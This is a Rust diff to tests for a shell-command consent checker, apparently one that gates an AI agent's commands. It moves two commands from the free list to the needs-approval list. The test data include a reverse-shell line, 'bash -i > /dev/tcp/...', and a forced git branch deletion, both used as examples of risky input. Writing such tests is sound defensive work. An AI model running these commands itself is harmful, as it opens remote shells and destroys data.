@@ -65,7 +65,7 @@ const DIFFERENCES: &[(&str, &str, &str)] = &[
 fn verdict(command: &str) -> &'static str {
     match consent_for(command) {
         Consent::NotNeeded => "free",
-        Consent::Needed { .. } | Consent::Review(_) => "needed",
+        Consent::Needed(_) | Consent::Review(_) => "needed",
         Consent::Forbidden { .. } => "forbidden",
     }
 }
@@ -247,6 +247,8 @@ fn risky_commands_are_asked_for() {
             "bash -i > /dev/tcp/1.2.3.4/5",
             "git -C x branch -D y",
             "\"$UNKNOWN_PROGRAM\" x",
+            "alias ll='ls -l'; ll",
+            "python3 <(echo 'x') --help",
         ],
     );
 }
@@ -283,11 +285,9 @@ fn everyday_commands_are_free() {
             "git log --grep='rm -rf /'",
             "git branch --delete merged",
             "files=(reboot.c shutdown.c); wc -l \"${files[@]}\"",
-            "alias ll='ls -l'; ll",
             "walk() { for x in \"$1\"/*; do walk \"$x\"; done; }; walk .",
             "x=$((1 << 4)); echo $x",
             "if [ -d x ]; then echo reboot; fi",
-            "python3 <(echo 'x') --help",
             "man reboot",
             "grep -rn 'DROP TABLE' migrations | head",
             "git commit -m 'drop table users'",
@@ -429,7 +429,7 @@ fn a_line_that_is_only_long_is_judged() {
 fn where_a_line_runs_counts_in_all_of_it() {
     let kind = |folder: Option<&str>, line: &str| match consent_in(folder, line) {
         Consent::NotNeeded => "free",
-        Consent::Needed { .. } | Consent::Review(_) => "needed",
+        Consent::Needed(_) | Consent::Review(_) => "needed",
         Consent::Forbidden { .. } => "forbidden",
     };
     for (folder, line, expected) in [
